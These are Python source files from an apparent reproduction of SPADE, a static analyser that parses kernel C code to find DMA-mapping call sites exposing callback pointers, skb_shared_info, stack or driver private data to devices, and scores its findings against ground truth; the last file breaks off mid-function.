            self._classify_field_deref(file, func, tokens[0], tokens[2],
                                       finding)
        elif len(tokens) == 1:
            self._classify_identifier(file, func, tokens[0], finding,
                                      depth, take_address)
        else:
            finding.note(f"unsupported mapped expression {expr!r} "
                         f"(potential false negative)")

    def _classify_field_deref(self, file: str, func: FunctionDef,
                              var: str, field_name: str,
                              finding: Finding) -> None:
        resolved = func.find_var(var)
        if resolved is None:
            finding.note(f"cannot resolve {var!r} in {func.name}()")
            return
        kind, decl = resolved
        finding.note(f"{file}:{decl.line}: {var} is a {kind} declared "
                     f"as {decl.type}")
        if not decl.type.is_struct or decl.type.pointer_level == 0:
            finding.note(f"{var} is not a struct pointer; stopping")
            return
        if decl.type.base == "sk_buff" and field_name == "data":
            self._classify_skb_data(file, func, var, finding)
            return
        # netdev_priv-style derivation?
        for assign in func.assignments_to(var):
            if assign.rhs_call is not None \
                    and assign.rhs_call.callee in PRIV_APIS:
                finding.exposures.add("private_data")
                finding.note(
                    f"{file}:{assign.line}: {var} = "
                    f"{assign.rhs_call.callee}(...): driver private data "
                    f"shares the page (section 4.1.3)")
        self._classify_struct_exposure(decl.type.base, finding)

    def _classify_skb_data(self, file: str, func: FunctionDef, var: str,
                           finding: Finding) -> None:
        finding.exposures.add("skb_shared_info")
        finding.exposed_struct = "skb_shared_info"
        layout = self.pahole.layout("skb_shared_info")
        callbacks = self.pahole.direct_callbacks("skb_shared_info")
        finding.note(
            f"{var}->data maps the skb data buffer: struct "
            f"skb_shared_info ({layout.size} bytes) is always embedded "
            f"at its tail and is mapped with the packet's permissions "
            f"(type (b), section 5.1); callback-bearing field(s): "
            + ", ".join(name for name, _c in callbacks))
        for assign in func.assignments_to(var):
            if assign.rhs_call is None:
                continue
            callee = assign.rhs_call.callee
            finding.allocation_source = callee
            if callee in SKB_PAGE_FRAG_ALLOCS:
                finding.exposures.add("type_c")
                finding.note(
                    f"{file}:{assign.line}: {var} = {callee}(...): "
                    f"page_frag-backed buffer; co-located buffers map "
                    f"the same page (type (c), section 5.2.2)")

    def _classify_identifier(self, file: str, func: FunctionDef,
                             var: str, finding: Finding, depth: int,
                             take_address: bool) -> None:
        resolved = func.find_var(var)
        if resolved is None:
            finding.note(f"cannot resolve {var!r} in {func.name}()")
            return
        kind, decl = resolved
        finding.note(f"{file}:{decl.line}: {var} is a {kind} declared "
                     f"as {decl.type}")
        if kind == "local":
            if decl.type.array_len is not None \
                    and decl.type.pointer_level == 0:
                finding.exposures.add("stack")
                finding.note(
                    f"{var} is an on-stack array: the kernel stack page "
                    f"(return addresses included) is exposed")
                return
            if take_address and decl.type.is_struct \
                    and decl.type.pointer_level == 0:
                self._classify_struct_exposure(decl.type.base, finding)
                return
            self._classify_local_pointer(file, func, var, finding)
            return
        # parameter: recurse into every caller's argument expression
        param_index = func.param_index(var)
        callers = self.index.callers_of(func.name)
        if not callers:
            if decl.type.is_struct:
                finding.note(
                    f"{var} arrives as a parameter with no visible "
                    f"caller; classifying by its declared type")
                self._classify_struct_exposure(decl.type.base, finding)
            else:
                finding.note(f"no callers of {func.name}() found "
                             f"(potential false negative)")
            return
        for record in callers:
            if param_index is None \
                    or param_index >= len(record.call.args):
                continue
            arg = record.call.args[param_index]
            finding.note(
                f"{record.file}:{record.call.line}: caller "
                f"{record.caller.name}() passes {arg!r}")
            self._classify_expr(record.file, record.caller, arg,
                                finding, depth - 1)

    def _classify_local_pointer(self, file: str, func: FunctionDef,
                                var: str, finding: Finding) -> None:
        assigns = func.assignments_to(var)
        if not assigns:
            finding.note(f"no assignment to {var!r} found "
                         f"(potential false negative)")
            return
        recognized = False
        for assign in assigns:
            if assign.rhs_call is None:
                continue
            recognized = True
            callee = assign.rhs_call.callee
            finding.allocation_source = callee
            finding.note(f"{file}:{assign.line}: {var} = {callee}(...)")
            if callee in PAGE_FRAG_APIS:
                finding.exposures.add("type_c")
                finding.note(
                    f"{callee} slices a shared page_frag chunk: "
                    f"multiple IOVAs will map this page (type (c))")
                self._check_build_skb(file, func, var, finding)
            elif callee in PRIV_APIS:
                finding.exposures.add("private_data")
                finding.note(f"{callee} returns driver private data "
                             f"co-located with OS state")
            elif callee in HEAP_APIS:
                finding.note(
                    f"{callee} heap buffer: statically clean; residual "
                    f"risk is random co-location (type (d), D-KASAN's "
                    f"domain)")
        if not recognized:
            # e.g. the value came through a function pointer or macro:
            # the complex constructs section 4.3 lists as SPADE's
            # false-negative sources.
            finding.note(
                f"assignment(s) to {var!r} use constructs the static "
                f"analysis cannot follow (potential false negative)")

    def _check_build_skb(self, file: str, func: FunctionDef, var: str,
                         finding: Finding) -> None:
        parsed = self.index.parsed.get(file)
        functions = parsed.functions.values() if parsed else [func]
        for candidate in functions:
            for call in candidate.calls:
                if call.callee == "build_skb" and call.args \
                        and call.args[0].split()[0] == var:
                    finding.exposures.add("build_skb")
                    finding.note(
                        f"{file}:{call.line}: build_skb({var}, ...) "
                        f"embeds skb_shared_info inside the mapped "
                        f"I/O buffer (type (b), section 9.1)")
                    return

    def _classify_struct_exposure(self, struct_name: str,
                                  finding: Finding) -> None:
        if not self.pahole.has_struct(struct_name):
            finding.note(f"struct {struct_name} has no visible "
                         f"definition (potential false negative)")
            return
        layout = self.pahole.layout(struct_name)
        finding.exposed_struct = struct_name
        finding.note(
            f"the whole struct {struct_name} ({layout.size} bytes) "
            f"shares the mapped page with the buffer (type (a))")
        direct = self.pahole.direct_callbacks(struct_name)
        finding.direct_callbacks = sum(c for _n, c in direct)
        finding.direct_callback_names = [n for n, _c in direct]
        spoofable, via = self.pahole.spoofable_callbacks(struct_name)
        finding.spoofable_callbacks = spoofable
        if finding.direct_callbacks:
            finding.exposures.add("callback_direct")
            finding.note(
                f"EXPOSED {finding.direct_callbacks} callback "
                f"pointer(s) mapped in struct {struct_name}: "
                + ", ".join(finding.direct_callback_names))
        if spoofable:
            finding.exposures.add("callback_spoof")
            finding.note(
                f"SPOOFABLE {spoofable} callback pointer(s) reachable "
                f"via pointer fields ({len(via)} structs: "
                + ", ".join(via[:6])
                + ("..." if len(via) > 6 else "") + ")")

    # -- aggregation ----------------------------------------------------------------

    def table2(self, findings: list[Finding] | None = None) -> Table2Stats:
        return Table2Stats.from_findings(findings or self.analyze())

    def validate(self, findings: list[Finding],
                 manifest: Manifest) -> ValidationResult:
        """Compare per-call-site exposure labels against ground truth."""
        truth = {(site.path, site.line): site.exposures
                 for site in manifest.sites}
        tp = fp = fn = 0
        per_label: dict[str, list[int]] = {}
        for finding in findings:
            expected = truth.get((finding.file, finding.line), frozenset())
            for label in finding.exposures | set(expected):
                errors = per_label.setdefault(label, [0, 0])
                if label in finding.exposures and label in expected:
                    tp += 1
                elif label in finding.exposures:
                    fp += 1
                    errors[0] += 1
                else:
                    fn += 1
                    errors[1] += 1
        return ValidationResult(
            tp, fp, fn,
            {label: (e[0], e[1]) for label, e in per_label.items()})
