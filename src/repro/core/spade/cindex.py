"""Cross-reference index over a source tree (the Cscope role).

"To navigate the kernel code, SPADE uses Cscope" (section 4.1.1). The
index parses every file once and answers the two queries the analysis
needs: where is a struct/function defined, and who calls a function
(with what argument expressions) -- the latter drives the recursive
backtracking when a mapped variable turns out to be a parameter.

Parsing is the expensive half of a SPADE run, so every per-file parse
tree goes through :mod:`repro.perfcache`, keyed by the parser version,
the path, and the SHA-256 of the file's text. A campaign seed that
mutates three files re-parses three files; the other ~450 come out of
the shared cache (in-process as live objects, cross-process via the
on-disk tier).
"""

from __future__ import annotations

import time
from collections import defaultdict
from dataclasses import dataclass

from repro import metrics, perfcache
from repro.core.spade.cparse import (PARSER_VERSION, CallSite, FunctionDef,
                                     ParsedFile, StructDef, parse_file)
from repro.corpus.generate import SourceTree
from repro.perfcache.codec import decode_parsed_file, encode_parsed_file


@dataclass(frozen=True)
class CallerRecord:
    """One call site of a function, with its enclosing context."""

    file: str
    caller: FunctionDef
    call: CallSite


class CodeIndex:
    """Parsed view of the whole tree with symbol cross-references."""

    def __init__(self, tree: SourceTree, *,
                 cache: "perfcache.PerfCache | None" = None) -> None:
        cache = perfcache.default_cache() if cache is None else cache
        self.parsed: dict[str, ParsedFile] = {}
        self.structs: dict[str, StructDef] = {}
        self.functions: dict[str, tuple[str, FunctionDef]] = {}
        self._callers: dict[str, list[CallerRecord]] = defaultdict(list)
        self.parse_errors: dict[str, str] = {}
        #: per-file content digests; the corpus-level digest (and the
        #: findings cache key) derives from these
        self.file_hashes: dict[str, str] = {}
        version = str(PARSER_VERSION)
        started = time.perf_counter()
        for path in tree.paths():
            if not (path.endswith(".c") or path.endswith(".h")):
                continue
            content = tree.read(path)
            digest = perfcache.file_digest(content)
            self.file_hashes[path] = digest
            key = perfcache.content_key("parse", version, path, digest)
            try:
                parsed = cache.cached(
                    "parse", key,
                    lambda path=path, content=content:
                        parse_file(path, content),
                    encode=encode_parsed_file,
                    decode=decode_parsed_file)
            except Exception as exc:  # a real tool logs and moves on
                self.parse_errors[path] = str(exc)
                continue
            self.parsed[path] = parsed
            for name, struct_def in parsed.structs.items():
                # headers first in sorted order; first definition wins
                self.structs.setdefault(name, struct_def)
            for name, func in parsed.functions.items():
                self.functions.setdefault(name, (path, func))
        metrics.observe("spade", "index_seconds",
                        time.perf_counter() - started)
        metrics.count("spade", "files_indexed", len(self.parsed))
        for path, parsed in self.parsed.items():
            for func in parsed.functions.values():
                for call in func.calls:
                    self._callers[call.callee].append(
                        CallerRecord(path, func, call))

    def callers_of(self, name: str) -> list[CallerRecord]:
        return list(self._callers.get(name, ()))

    def calls_to(self, name: str, *, within: str | None = None
                 ) -> list[CallerRecord]:
        records = self.callers_of(name)
        if within is not None:
            records = [r for r in records if r.file == within]
        return records

    @property
    def nr_files(self) -> int:
        return len(self.parsed)

    @property
    def nr_functions(self) -> int:
        return len(self.functions)
