"""Lightweight C parser for SPADE.

Extracts exactly what the analysis needs from kernel C: struct
definitions (with function-pointer fields), function definitions with
their parameters, local declarations, assignments, and call sites.
This mirrors the paper's tooling, which combined Cscope (symbol
cross-references) with pahole (struct layouts) rather than a full
compiler front end.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.spade.ctokens import TokKind, Token, tokenize
from repro.errors import AnalysisError

#: bump when parsing behaviour changes: every cached parse tree keyed
#: under the old version silently misses and is re-derived
PARSER_VERSION = 1

#: identifiers that start a declaration
TYPE_KEYWORDS = {
    "struct", "void", "char", "int", "short", "long", "unsigned",
    "signed", "float", "double", "u8", "u16", "u32", "u64", "size_t",
    "dma_addr_t", "gfp_t", "atomic_t", "netdev_features_t",
}

_STMT_KEYWORDS = {"if", "else", "while", "for", "return", "sizeof",
                  "switch", "case", "break", "continue", "goto", "do"}

_QUALIFIERS = {"static", "const", "volatile", "inline", "extern",
               "__always_inline", "noinline"}


@dataclass(frozen=True)
class TypeRef:
    """A declared type: base name + pointer depth + array length."""

    base: str
    is_struct: bool
    pointer_level: int = 0
    array_len: int | None = None

    def __str__(self) -> str:
        text = f"struct {self.base}" if self.is_struct else self.base
        text += " " + "*" * self.pointer_level if self.pointer_level else ""
        if self.array_len is not None:
            text += f"[{self.array_len}]"
        return text

    @classmethod
    def intern(cls, base: str, is_struct: bool, pointer_level: int = 0,
               array_len: int | None = None) -> "TypeRef":
        """One shared instance per distinct declared type.

        A corpus declares the same handful of types tens of thousands
        of times; interning keeps one ``TypeRef`` per distinct
        (base, struct-ness, pointer depth, array length) instead of an
        object per declaration -- and makes cached parse trees cheap
        to decode.
        """
        key = (base, is_struct, pointer_level, array_len)
        ref = _TYPEREF_INTERN.get(key)
        if ref is None:
            ref = _TYPEREF_INTERN[key] = cls(base, is_struct,
                                             pointer_level, array_len)
        return ref


_TYPEREF_INTERN: dict[tuple, TypeRef] = {}


@dataclass(frozen=True)
class StructField:
    name: str
    line: int
    type: TypeRef | None = None       # None for function pointers
    is_func_ptr: bool = False
    func_ptr_count: int = 1           # >1 for arrays of function pointers


@dataclass
class StructDef:
    name: str
    fields: list[StructField]
    file: str
    line: int


@dataclass(frozen=True)
class VarDecl:
    name: str
    type: TypeRef
    line: int


@dataclass(frozen=True)
class CallSite:
    callee: str
    args: tuple[str, ...]
    line: int


@dataclass(frozen=True)
class Assignment:
    lhs: str
    rhs_text: str
    rhs_call: CallSite | None
    line: int


@dataclass
class FunctionDef:
    name: str
    params: list[VarDecl]
    locals: list[VarDecl] = field(default_factory=list)
    assignments: list[Assignment] = field(default_factory=list)
    calls: list[CallSite] = field(default_factory=list)
    file: str = ""
    line: int = 0

    def find_var(self, name: str) -> tuple[str, VarDecl] | None:
        """('param'|'local', decl) for *name*, or None."""
        for decl in self.locals:
            if decl.name == name:
                return "local", decl
        for decl in self.params:
            if decl.name == name:
                return "param", decl
        return None

    def param_index(self, name: str) -> int | None:
        for i, decl in enumerate(self.params):
            if decl.name == name:
                return i
        return None

    def assignments_to(self, name: str) -> list[Assignment]:
        return [a for a in self.assignments if a.lhs == name]


@dataclass
class ParsedFile:
    path: str
    structs: dict[str, StructDef] = field(default_factory=dict)
    functions: dict[str, FunctionDef] = field(default_factory=dict)


def _join(tokens: list[Token]) -> str:
    return " ".join(t.text for t in tokens)


def _split_top_commas(tokens: list[Token]) -> list[list[Token]]:
    parts: list[list[Token]] = [[]]
    depth = 0
    for tok in tokens:
        if tok.kind == TokKind.PUNCT and tok.text in "([":
            depth += 1
        elif tok.kind == TokKind.PUNCT and tok.text in ")]":
            depth -= 1
        if tok.is_punct(",") and depth == 0:
            parts.append([])
        else:
            parts[-1].append(tok)
    return [p for p in parts if p]


def _parse_type_and_name(tokens: list[Token]) -> tuple[TypeRef, str] | None:
    """Parse ``struct X **name[N]``-style declarator tokens."""
    tokens = [t for t in tokens if not (t.kind == TokKind.IDENT
                                        and t.text in _QUALIFIERS)]
    if not tokens:
        return None
    array_len = None
    if len(tokens) >= 3 and tokens[-1].is_punct("]"):
        if tokens[-2].kind == TokKind.NUMBER and tokens[-3].is_punct("["):
            array_len = int(tokens[-2].text, 0)
            tokens = tokens[:-3]
    if not tokens or tokens[-1].kind != TokKind.IDENT:
        return None
    name = tokens[-1].text
    type_tokens = tokens[:-1]
    pointer_level = sum(1 for t in type_tokens if t.is_punct("*"))
    type_tokens = [t for t in type_tokens if not t.is_punct("*")]
    if not type_tokens:
        return None
    if type_tokens[0].is_ident("struct"):
        if len(type_tokens) < 2 or type_tokens[1].kind != TokKind.IDENT:
            return None
        ref = TypeRef.intern(type_tokens[1].text, True, pointer_level,
                             array_len)
    else:
        if any(t.kind != TokKind.IDENT for t in type_tokens):
            return None
        ref = TypeRef.intern(" ".join(t.text for t in type_tokens), False,
                             pointer_level, array_len)
    return ref, name


def _parse_func_ptr_field(tokens: list[Token]) -> StructField | None:
    """``ret (*name)(args)`` or ``ret (*name[N])(args)``."""
    for i in range(len(tokens) - 3):
        if tokens[i].is_punct("(") and tokens[i + 1].is_punct("*") \
                and tokens[i + 2].kind == TokKind.IDENT:
            name = tokens[i + 2].text
            j = i + 3
            count = 1
            if j + 2 < len(tokens) and tokens[j].is_punct("[") \
                    and tokens[j + 1].kind == TokKind.NUMBER:
                count = int(tokens[j + 1].text, 0)
                j += 3  # skip "[ N ]"
            if j < len(tokens) and tokens[j].is_punct(")") \
                    and j + 1 < len(tokens) and tokens[j + 1].is_punct("("):
                return StructField(name, tokens[i].line, None,
                                   is_func_ptr=True, func_ptr_count=count)
    return None


def _parse_struct_fields(tokens: list[Token], path: str) -> list[StructField]:
    fields: list[StructField] = []
    statement: list[Token] = []
    depth = 0
    for tok in tokens:
        if tok.kind == TokKind.PUNCT and tok.text in "([":
            depth += 1
        elif tok.kind == TokKind.PUNCT and tok.text in ")]":
            depth -= 1
        if tok.is_punct(";") and depth == 0:
            if statement:
                func_ptr = _parse_func_ptr_field(statement)
                if func_ptr is not None:
                    fields.append(func_ptr)
                else:
                    parsed = _parse_type_and_name(statement)
                    if parsed is not None:
                        ref, name = parsed
                        fields.append(StructField(name, statement[0].line,
                                                  ref))
            statement = []
        else:
            statement.append(tok)
    return fields


def _find_matching(tokens: list[Token], start: int, open_t: str,
                   close_t: str) -> int:
    """Index of the punctuator matching ``tokens[start]``."""
    depth = 0
    for i in range(start, len(tokens)):
        if tokens[i].is_punct(open_t):
            depth += 1
        elif tokens[i].is_punct(close_t):
            depth -= 1
            if depth == 0:
                return i
    raise AnalysisError(f"unbalanced {open_t}{close_t} from token {start}")


def _extract_calls(statement: list[Token]) -> list[CallSite]:
    calls = []
    for i, tok in enumerate(statement[:-1]):
        if tok.kind == TokKind.IDENT and tok.text not in _STMT_KEYWORDS \
                and tok.text not in TYPE_KEYWORDS \
                and statement[i + 1].is_punct("(") \
                and (i == 0 or not statement[i - 1].is_punct("->")):
            close = _find_matching(statement, i + 1, "(", ")")
            args = tuple(_join(part) for part in
                         _split_top_commas(statement[i + 2:close]))
            calls.append(CallSite(tok.text, args, tok.line))
    return calls


def _parse_body(tokens: list[Token], func: FunctionDef) -> None:
    """Collect declarations, assignments, and calls from a body."""
    statement: list[Token] = []
    paren_depth = 0
    for tok in tokens:
        if tok.kind == TokKind.PUNCT and tok.text in "([":
            paren_depth += 1
        elif tok.kind == TokKind.PUNCT and tok.text in ")]":
            paren_depth -= 1
        if tok.kind == TokKind.PUNCT and tok.text in "{}":
            continue
        if tok.is_punct(";") and paren_depth == 0:
            _parse_statement(statement, func)
            statement = []
        else:
            statement.append(tok)
    if statement:
        _parse_statement(statement, func)


def _parse_statement(statement: list[Token], func: FunctionDef) -> None:
    if not statement:
        return
    func.calls.extend(_extract_calls(statement))
    first = statement[0]
    # declaration (possibly with initializer)
    if first.kind == TokKind.IDENT and first.text in TYPE_KEYWORDS:
        eq_index = next((i for i, t in enumerate(statement)
                         if t.is_punct("=")), None)
        decl_tokens = statement[:eq_index] if eq_index is not None \
            else statement
        parsed = _parse_type_and_name(decl_tokens)
        if parsed is not None:
            ref, name = parsed
            func.locals.append(VarDecl(name, ref, first.line))
            if eq_index is not None:
                _record_assignment(name, statement[eq_index + 1:],
                                   first.line, func)
        return
    # plain assignment to a simple identifier
    if len(statement) >= 3 and first.kind == TokKind.IDENT \
            and statement[1].is_punct("="):
        _record_assignment(first.text, statement[2:], first.line, func)


def _record_assignment(lhs: str, rhs: list[Token], line: int,
                       func: FunctionDef) -> None:
    rhs_call = None
    calls = _extract_calls(rhs)
    if calls and rhs and rhs[0].kind == TokKind.IDENT \
            and calls[0].callee == rhs[0].text:
        rhs_call = calls[0]
    func.assignments.append(Assignment(lhs, _join(rhs), rhs_call, line))


def parse_file(path: str, source: str) -> ParsedFile:
    """Parse one C file into structs + functions."""
    tokens = [t for t in tokenize(source) if t.kind != TokKind.PREPROC]
    parsed = ParsedFile(path)
    i = 0
    n = len(tokens)
    while i < n:
        tok = tokens[i]
        # typedef ... ;
        if tok.is_ident("typedef"):
            while i < n and not tokens[i].is_punct(";"):
                i += 1
            i += 1
            continue
        # struct NAME { ... } ;  |  struct NAME ;
        if tok.is_ident("struct") and i + 1 < n \
                and tokens[i + 1].kind == TokKind.IDENT:
            name = tokens[i + 1].text
            if i + 2 < n and tokens[i + 2].is_punct("{"):
                close = _find_matching(tokens, i + 2, "{", "}")
                fields = _parse_struct_fields(tokens[i + 3:close], path)
                parsed.structs[name] = StructDef(name, fields, path,
                                                 tok.line)
                i = close + 1
                if i < n and tokens[i].is_punct(";"):
                    i += 1
                continue
            if i + 2 < n and tokens[i + 2].is_punct(";"):
                i += 3  # forward declaration
                continue
        # function definition or prototype: ... NAME ( params ) { | ;
        if tok.kind == TokKind.IDENT and i + 1 < n \
                and tokens[i + 1].is_punct("(") \
                and tok.text not in TYPE_KEYWORDS \
                and tok.text not in _QUALIFIERS:
            close = _find_matching(tokens, i + 1, "(", ")")
            after = tokens[close + 1] if close + 1 < n else None
            if after is not None and after.is_punct("{"):
                body_close = _find_matching(tokens, close + 1, "{", "}")
                func = FunctionDef(tok.text, _parse_params(
                    tokens[i + 2:close]), file=path, line=tok.line)
                _parse_body(tokens[close + 2:body_close], func)
                parsed.functions[func.name] = func
                i = body_close + 1
                continue
            if after is not None and after.is_punct(";"):
                i = close + 2  # prototype
                continue
        i += 1
    return parsed


def _parse_params(tokens: list[Token]) -> list[VarDecl]:
    params = []
    for part in _split_top_commas(tokens):
        if len(part) == 1 and part[0].is_ident("void"):
            continue
        parsed = _parse_type_and_name(part)
        if parsed is not None:
            ref, name = parsed
            params.append(VarDecl(name, ref, part[0].line))
    return params
