"""C tokenizer for SPADE.

Comments are dropped, preprocessor lines are captured as single
``PREPROC`` tokens, and every token carries its 1-based source line so
findings can cite exact locations (as the paper's tool does).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.errors import AnalysisError

#: multi-character punctuators, longest first
_PUNCTUATORS = ("->", "<<=", ">>=", "==", "!=", "<=", ">=", "&&", "||",
                "<<", ">>", "+=", "-=", "*=", "/=", "|=", "&=", "^=",
                "++", "--", "...")

_SINGLE_PUNCT = set("{}()[];,*&=<>!+-/%|^~?:.")


class TokKind(enum.Enum):
    IDENT = "ident"
    NUMBER = "number"
    STRING = "string"
    CHAR = "char"
    PUNCT = "punct"
    PREPROC = "preproc"


@dataclass(frozen=True)
class Token:
    kind: TokKind
    text: str
    line: int

    def is_punct(self, text: str) -> bool:
        return self.kind == TokKind.PUNCT and self.text == text

    def is_ident(self, text: str | None = None) -> bool:
        return self.kind == TokKind.IDENT and \
            (text is None or self.text == text)


def tokenize(source: str) -> list[Token]:
    """Tokenize C source; raises on unterminated constructs."""
    tokens: list[Token] = []
    i = 0
    line = 1
    n = len(source)
    while i < n:
        ch = source[i]
        if ch == "\n":
            line += 1
            i += 1
            continue
        if ch in " \t\r":
            i += 1
            continue
        if ch == "#":
            end = source.find("\n", i)
            if end == -1:
                end = n
            tokens.append(Token(TokKind.PREPROC, source[i:end], line))
            i = end
            continue
        if source.startswith("//", i):
            end = source.find("\n", i)
            i = n if end == -1 else end
            continue
        if source.startswith("/*", i):
            end = source.find("*/", i + 2)
            if end == -1:
                raise AnalysisError(f"unterminated comment at line {line}")
            line += source.count("\n", i, end)
            i = end + 2
            continue
        if ch == '"' or ch == "'":
            j = i + 1
            while j < n and source[j] != ch:
                if source[j] == "\\":
                    j += 1
                j += 1
            if j >= n:
                raise AnalysisError(f"unterminated literal at line {line}")
            kind = TokKind.STRING if ch == '"' else TokKind.CHAR
            tokens.append(Token(kind, source[i:j + 1], line))
            i = j + 1
            continue
        if ch.isalpha() or ch == "_":
            j = i
            while j < n and (source[j].isalnum() or source[j] == "_"):
                j += 1
            tokens.append(Token(TokKind.IDENT, source[i:j], line))
            i = j
            continue
        if ch.isdigit():
            j = i
            while j < n and (source[j].isalnum() or source[j] in "xX._"):
                j += 1
            tokens.append(Token(TokKind.NUMBER, source[i:j], line))
            i = j
            continue
        matched = False
        for punct in _PUNCTUATORS:
            if source.startswith(punct, i):
                tokens.append(Token(TokKind.PUNCT, punct, line))
                i += len(punct)
                matched = True
                break
        if matched:
            continue
        if ch in _SINGLE_PUNCT:
            tokens.append(Token(TokKind.PUNCT, ch, line))
            i += 1
            continue
        raise AnalysisError(f"unexpected character {ch!r} at line {line}")
    return tokens
