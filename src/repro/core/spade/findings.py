"""SPADE finding records and Table-2 aggregation."""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass
class Finding:
    """Analysis result for one dma-map call site."""

    file: str
    line: int
    mapped_expr: str
    #: exposure labels, same vocabulary as the corpus manifest
    exposures: set[str] = field(default_factory=set)
    exposed_struct: str | None = None
    direct_callbacks: int = 0
    direct_callback_names: list[str] = field(default_factory=list)
    spoofable_callbacks: int = 0
    allocation_source: str | None = None
    #: Figure-2-style numbered trace lines
    trace: list[str] = field(default_factory=list)

    @property
    def vulnerable(self) -> bool:
        return bool(self.exposures)

    def note(self, message: str) -> None:
        self.trace.append(message)


@dataclass
class Table2Stats:
    """The seven rows of Table 2 plus the totals."""

    callbacks_exposed: tuple[int, int]
    skb_shared_info_mapped: tuple[int, int]
    callbacks_exposed_directly: tuple[int, int]
    private_data_mapped: tuple[int, int]
    stack_mapped: tuple[int, int]
    type_c: tuple[int, int]
    build_skb_used: tuple[int, int]
    total: tuple[int, int]
    vulnerable: tuple[int, int]

    @classmethod
    def from_findings(cls, findings: list["Finding"]) -> "Table2Stats":
        def row(*labels: str) -> tuple[int, int]:
            hits = [f for f in findings
                    if any(label in f.exposures for label in labels)]
            return len(hits), len({f.file for f in hits})

        vulnerable = [f for f in findings if f.vulnerable]
        return cls(
            callbacks_exposed=row("callback_direct", "callback_spoof"),
            skb_shared_info_mapped=row("skb_shared_info"),
            callbacks_exposed_directly=row("callback_direct"),
            private_data_mapped=row("private_data"),
            stack_mapped=row("stack"),
            type_c=row("type_c"),
            build_skb_used=row("build_skb"),
            total=(len(findings), len({f.file for f in findings})),
            vulnerable=(len(vulnerable),
                        len({f.file for f in vulnerable})),
        )

    def rows(self) -> list[tuple[str, int, int]]:
        """(label, calls, files) in the paper's Table 2 order."""
        return [
            ("1. Callbacks exposed", *self.callbacks_exposed),
            ("2. skb_shared_info mapped", *self.skb_shared_info_mapped),
            ("3. Callbacks exposed directly",
             *self.callbacks_exposed_directly),
            ("4. Private data mapped", *self.private_data_mapped),
            ("5. Stack mapped", *self.stack_mapped),
            ("6. Type C vulnerability", *self.type_c),
            ("7. build_skb used", *self.build_skb_used),
            ("Total dma-map calls", *self.total),
        ]


def exposures_by_site(findings: list["Finding"]
                      ) -> dict[tuple[str, int], frozenset[str]]:
    """Per-call-site exposure labels, keyed like the corpus manifest.

    The campaign's differential oracle joins this map against
    :class:`repro.corpus.manifest.Manifest` ground truth.
    """
    return {(f.file, f.line): frozenset(f.exposures) for f in findings}


@dataclass
class ValidationResult:
    """SPADE vs. the generator's ground truth."""

    true_positives: int
    false_positives: int
    false_negatives: int
    per_label_errors: dict[str, tuple[int, int]]

    @property
    def precision(self) -> float:
        denom = self.true_positives + self.false_positives
        return self.true_positives / denom if denom else 1.0

    @property
    def recall(self) -> float:
        denom = self.true_positives + self.false_negatives
        return self.true_positives / denom if denom else 1.0
