"""Struct layout and callback-reachability analysis (the pahole role).

"SPADE ... uses pahole to explore the compiled binaries for the layout
of the exposed data structures" (section 4.1.1). Given the parsed
struct definitions, this module computes:

* byte layouts (offset/size per field, natural alignment like x86-64);
* **direct callback counts** -- function-pointer fields of the struct,
  including those of structs nested by value (they share the mapped
  page with the buffer);
* **spoofable callback counts** -- walking the pointer graph from the
  struct (each struct type visited once), summing the function-pointer
  fields of every reachable type: a device that can redirect any of
  the exposed pointers to a forged instance controls that many
  callbacks (footnote 3 of the paper).
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.core.spade.cparse import StructDef, StructField, TypeRef
from repro.errors import AnalysisError

#: x86-64 sizes for the corpus's scalar types.
PRIMITIVE_SIZES = {
    "u8": 1, "u16": 2, "u32": 4, "u64": 8,
    "char": 1, "short": 2, "int": 4, "long": 8,
    "unsigned": 4, "unsigned char": 1, "unsigned short": 2,
    "unsigned int": 4, "unsigned long": 8, "unsigned long long": 8,
    "long long": 8, "float": 4, "double": 8,
    "size_t": 8, "dma_addr_t": 8, "gfp_t": 4, "atomic_t": 4,
    "netdev_features_t": 8, "void": 1,
}

POINTER_SIZE = 8


@dataclass(frozen=True)
class LaidOutField:
    name: str
    offset: int
    size: int
    is_callback: bool
    type: TypeRef | None


@dataclass
class StructLayoutInfo:
    name: str
    size: int
    fields: list[LaidOutField] = field(default_factory=list)

    def callback_fields(self) -> list[LaidOutField]:
        return [f for f in self.fields if f.is_callback]


#: process-wide layout intern table: recursive struct fingerprint ->
#: the one shared StructLayoutInfo. Campaign seeds re-instantiate
#: PaholeDb per mutated corpus, but almost every struct definition is
#: identical across seeds -- interning makes those layouts free.
_LAYOUT_INTERN: dict[str, StructLayoutInfo] = {}


class PaholeDb:
    """Layout/reachability queries over a set of struct definitions."""

    def __init__(self, structs: dict[str, StructDef]) -> None:
        self._structs = structs
        self._layout_cache: dict[str, StructLayoutInfo] = {}
        self._fingerprints: dict[str, str] = {}
        self._direct_memo: dict[str, list[tuple[str, int]]] = {}
        self._targets_memo: dict[str, set[str]] = {}
        self._spoof_memo: dict[str, tuple[int, list[str]]] = {}

    def has_struct(self, name: str) -> bool:
        return name in self._structs

    def struct_def(self, name: str) -> StructDef | None:
        return self._structs.get(name)

    # -- sizes and layout -----------------------------------------------------

    def _field_size_align(self, f: StructField,
                          stack: tuple[str, ...]) -> tuple[int, int]:
        if f.is_func_ptr:
            return POINTER_SIZE * f.func_ptr_count, POINTER_SIZE
        ref = f.type
        if ref is None:
            return POINTER_SIZE, POINTER_SIZE
        if ref.pointer_level > 0:
            base, align = POINTER_SIZE, POINTER_SIZE
        elif ref.is_struct:
            inner = self.layout(ref.base, _stack=stack)
            base, align = inner.size, min(8, inner.size) or 1
        else:
            base = PRIMITIVE_SIZES.get(ref.base, 4)
            align = base
        count = ref.array_len if ref.array_len is not None else 1
        return base * count, align

    def _fingerprint(self, name: str,
                     _stack: tuple[str, ...] = ()) -> str:
        """Recursive identity of everything a layout depends on.

        Two structs with equal fingerprints (across any two corpora or
        PaholeDb instances) lay out identically, so their
        :class:`StructLayoutInfo` can be one interned object.
        """
        cached = self._fingerprints.get(name)
        if cached is not None:
            return cached
        if name in _stack:
            raise AnalysisError(f"recursive by-value struct {name}")
        struct_def = self._structs.get(name)
        if struct_def is None:
            raise AnalysisError(f"unknown struct {name}")
        parts = [name]
        for f in struct_def.fields:
            ref = f.type
            if f.is_func_ptr:
                parts.append(f"{f.name}|fp|{f.func_ptr_count}")
            elif ref is None:
                parts.append(f"{f.name}|ptr")
            elif ref.is_struct and ref.pointer_level == 0 \
                    and ref.base in self._structs:
                parts.append(
